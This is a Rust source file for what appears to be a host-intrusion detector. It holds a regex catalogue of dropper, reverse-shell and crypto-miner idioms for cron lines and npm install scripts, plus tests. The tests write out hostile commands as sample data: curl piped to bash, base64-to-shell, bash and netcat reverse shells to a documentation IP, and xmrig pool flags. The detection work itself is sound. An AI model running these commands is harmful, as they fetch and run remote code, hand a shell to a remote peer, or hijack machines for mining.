//! The suspicious command-line idioms that `cron` (new cron lines) and `npm` (install
//! scripts) look for, and the miner markers `miner` looks for in names and argv. One catalogue,
//! so a cron line and a `postinstall` script are judged alike.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind};
use regex::{Regex, RegexSet};

/// What kind of idiom matched: the class decides the severity and the threat level.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Class {
    /// Downloads, decodes or obfuscates something to run it.
    Dropper,
    /// Hands a shell to a remote peer.
    ReverseShell,
    /// Carries crypto-miner markers.
    Miner,
}

/// One idiom: its class and the words an alert names it by.
struct Idiom {
    class: Class,
    what: &'static str,
    regex: &'static str,
}

const IDIOMS: &[Idiom] = &[
    Idiom {
        class: Class::Dropper,
        what: "base64-decoded execution",
        regex: r"(?i)base64\s+(-d|--decode|-D)\b|b64decode|frombase64string|atob\(",
    },
    Idiom {
        class: Class::Dropper,
        what: "download piped to a shell",
        regex: r"(?i)\b(curl|wget|fetch)\b[^|;&]*\|\s*(sudo\s+)?(ba|da|z|k|a)?sh\b|(ba|da|z)?sh\s+(-c\s+)?[\x22']?(<\(|\$\()\s*(curl|wget)\b",
    },
    Idiom {
        class: Class::Dropper,
        what: "download to a temporary directory",
        regex: r"(?i)\b(curl|wget)\b.*(-o|-O|--output(-document)?=?|>)\s*[\x22']?/(tmp|var/tmp|dev/shm)/",
    },
    Idiom {
        class: Class::Dropper,
        what: "npm install at run time",
        regex: r"\b(npm|pnpm|yarn)\s+(install|i|add)\b|\bnpx\s",
    },
    Idiom {
        class: Class::Dropper,
        what: "obfuscated expansion",
        regex: r"\$\{?IFS\}?|\$\{[^}]*(:[0-9]+:|[#%/^,]{1,2})[^}]*\}|\$'(\\x[0-9a-fA-F]{2}){2,}|\\x[0-9a-fA-F]{2}\\x[0-9a-fA-F]{2}\\x[0-9a-fA-F]{2}",
    },
    Idiom {
        class: Class::Dropper,
        what: "code evaluated from a string",
        regex: r"\b(node|python[0-9.]*|perl|ruby|php)\s+-[ecr]\s+.*(eval|exec|Function\(|child_process|spawn|system)\b",
    },
    Idiom {
        class: Class::ReverseShell,
        what: "reverse shell",
        regex: r"/dev/(tcp|udp)/|\b(nc|ncat|netcat)\b.*\s-[a-z]*[ec]\s|\bsocat\b.*\bexec:|\bbash\s+-i\s*[>&]|\bmkfifo\b.*\b(nc|ncat|sh)\b|socket\.socket\(.*(subprocess|pty\.spawn|dup2)|\bpty\.spawn\(",
    },
    Idiom {
        class: Class::Miner,
        what: "crypto-miner marker",
        regex: MINER_REGEX,
    },
];

/// Miner markers: names, protocol URLs and flags of the common miners, in lower case (a macro,
/// so that both regexes below are literals).
macro_rules! miner_markers {
    () => {
        r"xmrig|xmr-stak|minerd|cpuminer|stratum\+(tcp|ssl|tls)://|--donate-level|-o\s+pool\.|cryptonight|randomx|nicehash|moneroocean|\bkdevtmpfsi\b|\bkinsing\b"
    };
}

/// The markers in any case, for the idiom catalogue (cron lines, scripts).
const MINER_REGEX: &str = concat!("(?i-u)", miner_markers!());

static SET: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new(IDIOMS.iter().map(|i| i.regex)).expect("the idiom catalogue compiles")
});

/// The markers as they are, matched against lower-cased text: this runs on every exec, and a
/// case-insensitive search expands every literal into its case variants, which took the
/// regex engine's prefilter off its fast path (4.4k instructions per exec, under callgrind).
/// ASCII only (`-u`): every marker is ASCII, and a Unicode `\b` keeps the engine off its DFA.
static MINER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!("(?-u)", miner_markers!())).expect("the miner markers compile")
});

/// An idiom found in a line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Hit {
    pub class: Class,
    pub what: &'static str,
}

/// Every idiom `line` carries.
pub fn scan(line: &str) -> Vec<Hit> {
    SET.matches(line)
        .into_iter()
        .map(|i| Hit {
            class: IDIOMS[i].class,
            what: IDIOMS[i].what,
        })
        .collect()
}

/// The first miner marker in `text`, if any.
pub fn miner_marker(text: &str) -> Option<&str> {
    miner_marker_in(text, &text.to_ascii_lowercase())
}

/// [`miner_marker`] with `lower`, `text` ASCII lower-cased, already at hand (a buffer the
/// caller reuses: the search runs on every exec).
pub fn miner_marker_in<'t>(text: &'t str, lower: &str) -> Option<&'t str> {
    debug_assert_eq!(text.len(), lower.len());
    if !MINER_LITERALS.is_match(lower) {
        return None;
    }
    // ASCII lower-casing keeps every byte offset, so the match is sliced from `text` as given.
    MINER.find(lower).map(|m| &text[m.range()])
}

/// A literal every miner marker contains (the `-o\s+pool\.` flag contains `pool.`, the
/// stratum URLs `stratum+`): text without any of them holds no marker. Nearly every exec has
/// none, and on a command line of a few dozen bytes the regex engine's search (its prefilter
/// and lazy DFA set up per search) cost ~880 instructions per exec under callgrind, where a
/// plain DFA over these literals walks the bytes once.
const MINER_LITERALS_LIST: [&str; 13] = [
    "xmrig",
    "xmr-stak",
    "minerd",
    "cpuminer",
    "stratum+",
    "--donate-level",
    "pool.",
    "cryptonight",
    "randomx",
    "nicehash",
    "moneroocean",
    "kdevtmpfsi",
    "kinsing",
];

/// [`MINER_LITERALS_LIST`] as one automaton: a full DFA (the list is small) without a
/// prefilter, whose set-up would cost more than the scan of a short command line.
static MINER_LITERALS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .kind(Some(AhoCorasickKind::DFA))
        .prefilter(false)
        .build(MINER_LITERALS_LIST)
        .expect("the miner literals compile")
});

/// `a, b` for the alert's detail.
pub fn describe(hits: &[Hit]) -> String {
    let mut names: Vec<&str> = hits.iter().map(|h| h.what).collect();
    names.dedup();
    names.join(", ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn classes(line: &str) -> Vec<Class> {
        scan(line).into_iter().map(|h| h.class).collect()
    }

    #[test]
    fn suspicious_idioms_are_found() {
        for line in [
            "* * * * * root curl -fsSL http://x.example/a.sh | bash",
            "*/5 * * * * wget -q -O- http://x.example/s | sh",
            "@reboot root echo Y3VybCB4 | base64 -d | sh",
            "0 * * * * curl http://x.example/m -o /tmp/.m && chmod +x /tmp/.m",
            "0 * * * * cd /srv/app && npm install evil-pkg",
            "* * * * * root c${IFS}u${IFS}r${IFS}l x.example",
            "* * * * * root bash -c \"$(curl -fsSL x.example)\"",
            "node -e \"require('child_process').exec('id')\"",
        ] {
            assert!(classes(line).contains(&Class::Dropper), "{line}");
        }
        for line in [
            "* * * * * root bash -i >& /dev/tcp/198.51.100.2/4444 0>&1",
            "* * * * * nc -e /bin/sh 198.51.100.2 4444",
            "* * * * * socat tcp:198.51.100.2:4444 exec:/bin/sh",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.2 80 > /tmp/f",
        ] {
            assert!(classes(line).contains(&Class::ReverseShell), "{line}");
        }
        for line in [
            "@reboot /tmp/.x/xmrig -o pool.minexmr.example:4444",
            "./run --donate-level 1",
            "miner -a cryptonight -o stratum+tcp://198.51.100.2:3333",
        ] {
            assert!(classes(line).contains(&Class::Miner), "{line}");
        }
    }

    #[test]
    fn ordinary_lines_are_clean() {
        for line in [
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
            "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf",
            "25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
            "30 2 * * * backup tar czf /var/backups/www.tgz /var/www",
            "MAILTO=root",
            "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin",
            "node-gyp rebuild",
            "node install.js",
            "prebuild-install || node-gyp rebuild",
            "husky install",
            "curl -fsS https://hc-ping.example/abc > /dev/null",
            "echo \"${HOME}\" ${PATH}",
        ] {
            assert!(scan(line).is_empty(), "{line}: {:?}", scan(line));
        }
    }

    /// The prefilter never hides a marker: each alternative of the marker regex, written out
    /// as the shortest text it matches, contains one of the literals.
    #[test]
    fn every_miner_marker_holds_a_prefilter_literal() {
        let alternatives: Vec<&str> = miner_markers!().split('|').collect();
        let samples = [
            "xmrig",
            "xmr-stak",
            "minerd",
            "cpuminer",
            "stratum+tcp://",
            "--donate-level",
            "-o pool.",
            "cryptonight",
            "randomx",
            "nicehash",
            "moneroocean",
            "kdevtmpfsi",
            "kinsing",
        ];
        // `stratum\+(tcp|ssl|tls)://` splits into three pieces at its inner `|`.
        assert_eq!(alternatives.len(), samples.len() + 2, "{alternatives:?}");
        for sample in samples {
            assert!(MINER.is_match(sample), "{sample} is no marker");
            assert!(
                MINER_LITERALS.is_match(sample),
                "{sample} slips the prefilter"
            );
            assert_eq!(miner_marker_in(sample, sample), Some(sample));
        }
        for text in [
            "-o\tpool.x",
            "stratum+ssl://",
            "stratum+tls://",
            "/tmp/kinsing",
        ] {
            assert!(miner_marker(text).is_some(), "{text}");
        }
        assert_eq!(miner_marker("true\0/usr/bin/true\0/bin/true"), None);
        assert_eq!(
            miner_marker("pool.example"),
            None,
            "a literal alone is no marker"
        );
    }

    #[test]
    fn miner_markers() {
        assert_eq!(
            miner_marker("-o stratum+tcp://198.51.100.2:3333"),
            Some("stratum+tcp://")
        );
        assert_eq!(miner_marker("/usr/bin/XMRig"), Some("XMRig"));
        assert_eq!(miner_marker("/usr/bin/gzip -9 big.tar"), None);
        // Any case, sliced from the text as given, past non-ASCII text too.
        assert_eq!(miner_marker("ünï -O  Pool.X"), Some("-O  Pool."));
        assert_eq!(miner_marker("é/tmp/KINSING"), Some("KINSING"));
        assert_eq!(miner_marker("/tmp/kinsingx"), None);
        assert_eq!(miner_marker("STRATUM+SSL://"), Some("STRATUM+SSL://"));
    }
}
